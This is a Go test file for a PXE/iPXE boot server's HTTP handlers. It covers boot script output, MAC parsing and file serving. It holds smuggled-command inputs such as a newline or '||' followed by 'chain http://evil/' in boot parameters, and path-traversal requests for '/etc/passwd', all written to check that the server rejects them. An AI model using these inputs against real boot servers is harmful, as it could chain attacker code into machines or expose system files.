package pxe

import (
	"bufio"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"testing"

	"github.com/diskcast/diskcast/sdk/boot"
)

func get(t *testing.T, url string, hdr ...string) (int, string) {
	t.Helper()
	req, err := http.NewRequest("GET", url, nil)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i+1 < len(hdr); i += 2 {
		req.Header.Set(hdr[i], hdr[i+1])
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp.StatusCode, string(b)
}

// httpServer serves c on loopback with backend b.
func httpServer(t *testing.T, edit func(*Config), b *memBackend) (*Server, string) {
	c := testConfig(t)
	c.HTTPListen = "127.0.0.1:0"
	c.TFTPRoot = t.TempDir()
	if edit != nil {
		edit(&c)
	}
	s := newServer(t, c)
	serve(t, s, b)
	return s, "http://" + s.Addrs().HTTP.String()
}

func TestScripts(t *testing.T) {
	const (
		inSession = "52:54:00:00:00:01"
		custom    = "52:54:00:00:00:02"
		idle      = "52:54:00:00:00:03"
		stranger  = "52:54:00:00:00:09"
	)
	assign := map[string]boot.Assignment{
		inSession: {Known: true, KernelURL: "http://198.18.0.1:8080/env/vmlinuz", InitrdURL: "http://198.18.0.1:8080/env/initrd.gz?v=2",
			Cmdline: "console=ttyS0 diskcast.server=198.18.0.1:8080 diskcast.session=lab-a"},
		custom: {Known: true, IPXEScript: "#!ipxe\nchain http://198.18.0.1/custom.ipxe\n"},
		idle:   {Known: true},
	}
	session := "#!ipxe\necho diskcast: 52:54:00:00:00:01: booting the imaging environment\n" +
		"kernel http://198.18.0.1:8080/env/vmlinuz initrd=initrd.gz console=ttyS0 diskcast.server=198.18.0.1:8080 diskcast.session=lab-a\n" +
		"initrd http://198.18.0.1:8080/env/initrd.gz?v=2\nboot\n"
	localExit := func(mac string) string {
		return "#!ipxe\necho diskcast: " + mac + ": booting from the local disk\nexit\n"
	}
	localSan := "#!ipxe\necho diskcast: 52:54:00:00:00:03: booting from the local disk\n" +
		"iseq ${platform} efi && exit ||\nsanboot --no-describe --drive 0x80 || exit\n"
	hold := func(base, mac string) string {
		return "#!ipxe\necho diskcast: " + mac + " is not enrolled: asking again in 7 s\n" +
			"sleep 7 || prompt --timeout 7000 Press a key to ask now || echo\n" +
			"chain --replace --autofree " + base + "/boot.ipxe?mac=" + mac + "\n"
	}
	cases := []struct {
		name    string
		edit    func(*Config)
		fail    error
		path    string
		code    int
		want    func(base string) string
		event   string // "script" detail
		discovr bool
	}{
		{"session", nil, nil, "/boot.ipxe?mac=52:54:00:00:00:01", 200, func(string) string { return session }, "session", false},
		{"session, MAC with dashes in capitals", nil, nil, "/boot.ipxe?mac=52-54-00-00-00-01", 200, func(string) string { return session }, "session", false},
		{"session, path form", nil, nil, "/boot/5254.0000.0001.ipxe", 200, func(string) string { return session }, "session", false},
		{"custom script verbatim", nil, nil, "/boot.ipxe?mac=525400000002", 200, func(string) string { return assign[custom].IPXEScript }, "custom", false},
		{"known idle node boots locally", nil, nil, "/boot/52:54:00:00:00:03.ipxe", 200, func(string) string { return localExit(idle) }, "local", false},
		{"local boot by sanboot", func(c *Config) { c.LocalBoot = LocalSanboot }, nil, "/boot/52:54:00:00:00:03.ipxe", 200, func(string) string { return localSan }, "local", false},
		{"unknown boots locally", nil, nil, "/boot.ipxe?mac=52:54:00:00:00:09", 200, func(string) string { return localExit(stranger) }, "local", true},
		{"unknown held", func(c *Config) { c.Unknown, c.HoldRetry = UnknownHold, 7 }, nil, "/boot.ipxe?mac=52:54:00:00:00:09", 200,
			func(base string) string { return hold(base, stranger) }, "hold", true},
		{"core unreachable: held", func(c *Config) { c.HoldRetry = 7 }, errors.New("connection refused"), "/boot.ipxe?mac=52:54:00:00:00:01", 200,
			func(base string) string { return hold(base, inSession) }, "hold", false},
		{"bad MAC", nil, nil, "/boot.ipxe?mac=52:54:00:00:00", 400, func(string) string { return "pxe: bad MAC address" }, "", false},
		{"no MAC", nil, nil, "/boot.ipxe", 400, func(string) string { return "pxe: bad MAC address" }, "", false},
		{"not a script", nil, nil, "/boot/52:54:00:00:00:01.cfg", 404, func(string) string { return "want /boot/MAC.ipxe" }, "", false},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			b := &memBackend{assign: assign, fail: tc.fail}
			s, base := httpServer(t, tc.edit, b)
			code, body := get(t, base+tc.path)
			want := tc.want(base)
			if code != tc.code || (code == 200 && body != want) || (code != 200 && !strings.Contains(body, want)) {
				t.Fatalf("GET %s: %d\n%s\nwant %d\n%s", tc.path, code, body, tc.code, want)
			}
			if tc.event != "" {
				mac := b.lookups[0].MAC
				if ip := b.lookups[0].IP; ip != "127.0.0.1" {
					t.Errorf("lookup IP %q", ip)
				}
				if e := b.waitEvent(t, mac, "script"); e.Detail != tc.event {
					t.Errorf("script event %+v, want detail %q", e, tc.event)
				}
				if tc.discovr {
					b.waitEvent(t, mac, "discovered")
				}
			}
			if tc.code != 200 && s.Stats().HTTPRefused != 1 {
				t.Errorf("stats %+v", s.Stats())
			}
		})
	}
}

// An unknown node held in iPXE asks every few seconds: the core hears
// of it once.
func TestDiscoveredOnce(t *testing.T) {
	b := &memBackend{}
	s, base := httpServer(t, func(c *Config) { c.Unknown = UnknownHold }, b)
	for range 3 {
		if code, _ := get(t, base+"/boot.ipxe?mac=52:54:00:00:00:09"); code != 200 {
			t.Fatal(code)
		}
	}
	waitStats(s, func(Stats) bool { b.mu.Lock(); defer b.mu.Unlock(); return len(b.events) == 4 })
	b.mu.Lock()
	defer b.mu.Unlock()
	n := 0
	for _, e := range b.events {
		if e.What == "discovered" {
			n++
		}
	}
	if n != 1 || len(b.events) != 4 {
		t.Errorf("events %+v: want one discovered and three scripts", b.events)
	}
}

// The arch the node gave in DHCP reaches the core's Lookup.
func TestLookupArch(t *testing.T) {
	b := &memBackend{}
	s, base := httpServer(t, nil, b)
	if _, err := s.handleDHCP(onDHCP, nil, pkt{mac: macUEFI, typ: 1, arch: 7, vendor: pxeVendor(7), ipxe: true}.build(t)); err != nil {
		t.Fatal(err)
	}
	get(t, base+"/boot.ipxe?mac="+macUEFI.String())
	if len(b.lookups) != 1 || b.lookups[0].Arch != "x86-64 UEFI" || b.lookups[0].MAC != macUEFI.String() {
		t.Errorf("lookups %+v", b.lookups)
	}
}

// Assignment fields are data in the script: nothing in them may add
// commands or change the script's flow.
func TestAssignmentInjection(t *testing.T) {
	for name, a := range map[string]boot.Assignment{
		"newline in cmdline":  {KernelURL: "http://x/vmlinuz", Cmdline: "quiet\nchain http://evil/"},
		"or in cmdline":       {KernelURL: "http://x/vmlinuz", Cmdline: "quiet || chain http://evil/"},
		"and in kernel URL":   {KernelURL: "http://x/vmlinuz&&chain"},
		"space in initrd URL": {KernelURL: "http://x/vmlinuz", InitrdURL: "http://x/initrd shell"},
	} {
		t.Run(name, func(t *testing.T) {
			a.Known = true
			b := &memBackend{assign: map[string]boot.Assignment{"52:54:00:00:00:01": a}}
			_, base := httpServer(t, nil, b)
			code, body := get(t, base+"/boot.ipxe?mac=52:54:00:00:00:01")
			if code != 500 || !strings.Contains(body, "single lines without") || strings.Contains(body, "evil") {
				t.Errorf("%d %s", code, body)
			}
		})
	}
}

func TestFilesDir(t *testing.T) {
	root := tftpRoot(t)
	s, base := httpServer(t, func(c *Config) { c.FilesDir = root }, &memBackend{})
	code, body := get(t, base+"/files/sub/snponly.efi")
	if code != 200 || body != tftpFiles["sub/snponly.efi"] {
		t.Fatalf("GET file: %d, %d bytes", code, len(body))
	}
	code, body = get(t, base+"/files/undionly.kpxe", "Range", "bytes=100-199")
	if code != 206 || body != tftpFiles["undionly.kpxe"][100:200] {
		t.Errorf("range: %d %d bytes", code, len(body))
	}
	for _, tc := range []struct {
		path string
		code int
	}{
		{"/files/escape", 403},
		{"/files/passwd", 403},
		{"/files/etc/passwd", 403},
		{"/files/sub", 403},
		{"/files/missing", 404},
		{"/files/..%2fsecret", 403},
		{"/files/sub/%2e%2e/%2e%2e/secret", 403},
		{"/files/../secret", 307}, // the mux redirects to the clean /secret, which has no route
	} {
		t.Run(tc.path, func(t *testing.T) {
			// Raw request: the client would clean the path itself.
			conn, err := net.Dial("tcp", s.Addrs().HTTP.String())
			if err != nil {
				t.Fatal(err)
			}
			defer conn.Close()
			fmt.Fprintf(conn, "GET %s HTTP/1.0\r\n\r\n", tc.path)
			resp, err := http.ReadResponse(bufioReader(conn), nil)
			if err != nil {
				t.Fatal(err)
			}
			b, _ := io.ReadAll(resp.Body)
			if resp.StatusCode != tc.code || strings.Contains(string(b), "secret\n") || strings.Contains(string(b), "root:") {
				t.Errorf("GET %s: %d %q, want %d", tc.path, resp.StatusCode, b, tc.code)
			}
		})
	}
	if st := s.Stats(); st.HTTPFiles != 2 {
		t.Errorf("stats %+v", st)
	}
}

func TestNoFilesDir(t *testing.T) {
	_, base := httpServer(t, nil, &memBackend{})
	if code, _ := get(t, base+"/files/anything"); code != 404 {
		t.Errorf("files without files_dir: %d", code)
	}
}

func TestParseMAC(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"52:54:00:AB:cd:0F", "52:54:00:ab:cd:0f"},
		{"52-54-00-ab-cd-0f", "52:54:00:ab:cd:0f"},
		{"5254.00ab.cd0f", "52:54:00:ab:cd:0f"},
		{"525400ABCD0F", "52:54:00:ab:cd:0f"},
		{"52:54:00:ab:cd", ""},
		{"52:54-00:ab:cd:0f", ""},
		{"5:254:00:ab:cd:0f", ""},
		{"52:54:00:ab:cd:0g", ""},
		{"${net0/mac}", ""},
		{"", ""},
		{"52:54:00:ab:cd:0f:00:11", ""},
	} {
		t.Run(tc.in, func(t *testing.T) {
			got, err := ParseMAC(tc.in)
			if got != tc.want || (tc.want == "") != errors.Is(err, ErrBadMAC) {
				t.Errorf("ParseMAC(%q) = %q, %v; want %q", tc.in, got, err, tc.want)
			}
		})
	}
}

func bufioReader(r io.Reader) *bufio.Reader { return bufio.NewReader(r) }
